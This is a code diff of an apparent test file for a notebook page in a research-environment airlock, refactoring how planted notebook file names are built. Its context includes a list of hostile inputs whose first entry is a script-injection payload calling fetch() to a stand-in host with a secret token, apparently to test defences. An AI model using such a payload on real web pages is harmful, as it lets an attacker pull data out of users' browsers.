@@ -12,10 +12,8 @@ from tre.airlock.notebook_page import notebook_page
 from tre.core.errors import BadInput
 
 SECRET = "Zq7Planted9"
-PLANTED = [
-    f"{name}.ipynb"
-    for name in ("plotly metadata traceback attachment widgets parameters comment program small picture source".split())
-]
+NAMES = "plotly metadata traceback attachment widgets parameters comment program small picture source"
+PLANTED = [f"{name}.ipynb" for name in NAMES.split()]
 ORDINARY = ["clean.ipynb", "analysis.ipynb"]
 HOSTILE = [
     f"<script>fetch('https://a.example/{SECRET}')</script>",
